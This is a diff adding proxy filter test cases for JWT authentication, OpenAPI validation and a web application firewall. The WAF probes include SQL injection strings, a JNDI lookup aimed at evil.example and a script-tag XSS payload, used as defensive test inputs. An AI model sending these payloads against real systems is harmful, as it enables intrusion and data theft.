@@ -15,6 +15,9 @@ from dataclasses import dataclass, field
 
 import aiohttp
 import pytest
+import yaml
+
+from tests.filters.jwt_authn.helpers import claims, local_provider, policy, rsa_key
 
 
 @dataclass(frozen=True)
@@ -74,6 +77,129 @@ headers:
 """,
         (
             Probe("GET", "/echo", headers=(("x-drop", "secret"),)),
+            Probe("TRACE", "/echo"),
+        ),
+    ),
+]
+
+
+_KEY = rsa_key()
+_OTHER_KEY = rsa_key("rsa-other")
+_TOKEN = _KEY.sign(claims())
+
+_JWT_POLICY = policy(
+    {"corp": local_provider(_KEY, claimToHeaders=[{"headerName": "x-user", "claimName": "sub"}])},
+    [
+        {"match": {"path": "/echo/public"}, "skip": True},
+        {"match": {"prefix": "/"}, "requires": {"providerName": "corp"}},
+    ],
+)
+
+_OPENAPI_POLICY = yaml.safe_dump(
+    {
+        "openapi": {
+            "rejectAdditionalProperties": True,
+            "inline": {
+                "openapi": "3.0.3",
+                "info": {"title": "echo", "version": "1"},
+                "paths": {
+                    "/echo": {
+                        "get": {
+                            "parameters": [
+                                {
+                                    "name": "n",
+                                    "in": "query",
+                                    "schema": {"type": "integer", "maximum": 10},
+                                }
+                            ],
+                            "responses": {"200": {"description": "ok"}},
+                        },
+                        "post": {
+                            "requestBody": {
+                                "required": True,
+                                "content": {
+                                    "application/json": {
+                                        "schema": {
+                                            "type": "object",
+                                            "required": ["name"],
+                                            "properties": {"name": {"type": "string"}},
+                                        }
+                                    }
+                                },
+                            },
+                            "responses": {"200": {"description": "ok"}},
+                        },
+                    }
+                },
+            },
+        }
+    }
+)
+_JSON = (("content-type", "application/json"),)
+
+CASES += [
+    ParityCase(
+        "jwt_authn",
+        _JWT_POLICY,
+        (
+            Probe("GET", "/echo", headers=(("authorization", f"Bearer {_TOKEN}"),)),
+            Probe("GET", "/echo"),
+            Probe("GET", "/echo/public"),
+            Probe("GET", "/echo", headers=(("authorization", "Bearer not.a.jwt"),)),
+            Probe(
+                "GET", "/echo", headers=(("authorization", f"Bearer {_OTHER_KEY.sign(claims())}"),)
+            ),
+            Probe(
+                "GET",
+                "/echo",
+                headers=(("authorization", f"Bearer {_KEY.sign(claims(exp=1000))}"),),
+            ),
+        ),
+    ),
+    ParityCase(
+        "openapi",
+        _OPENAPI_POLICY,
+        (
+            Probe("GET", "/echo?n=3"),
+            Probe("GET", "/echo?n=30"),
+            Probe("GET", "/echo?n=abc"),
+            Probe("GET", "/echo?other=1"),
+            Probe("GET", "/nowhere"),
+            Probe("POST", "/echo", headers=_JSON, body=b'{"name": "rex"}'),
+            Probe("POST", "/echo", headers=_JSON, body=b'{"name": 5}'),
+            Probe("POST", "/echo", headers=_JSON, body=b'{"name": "rex", "extra": 1}'),
+            Probe("POST", "/echo", headers=_JSON, body=b"{not json"),
+        ),
+    ),
+]
+
+
+CASES += [
+    ParityCase(
+        "waf-default",
+        "",  # the WAF is on by default, enforcing
+        (
+            Probe("GET", "/echo?id=42"),
+            Probe("GET", "/echo?id=1%27%20OR%20%271%27%3D%271"),
+            Probe("GET", "/echo", headers=(("x-api-version", "${jndi:ldap://evil.example/a}"),)),
+            Probe("POST", "/echo", headers=_JSON, body=b'{"text": "<script>alert(1)</script>"}'),
+            Probe("POST", "/echo", headers=_JSON, body=b'{"text": "Hello O\'Brien"}'),
+            # Larger than a typical Envoy buffer, within the WAF's 1 MiB: inspected whole on
+            # every door (the examples buffer the WAF's limit + 1).
+            Probe("POST", "/echo", headers=_JSON, body=b'{"text": "' + b"a" * 200_000 + b'"}'),
+            Probe(
+                "POST",
+                "/echo",
+                headers=(("content-type", "application/x-www-form-urlencoded"),),
+                body=b"q=1%20UNION%20SELECT%20password%20FROM%20users",
+            ),
+        ),
+    ),
+    ParityCase(
+        "waf-detect",
+        "waf: {mode: detect}",
+        (
+            Probe("GET", "/echo?id=1%27%20OR%20%271%27%3D%271"),
             Probe("TRACE", "/echo"),
         ),
     ),
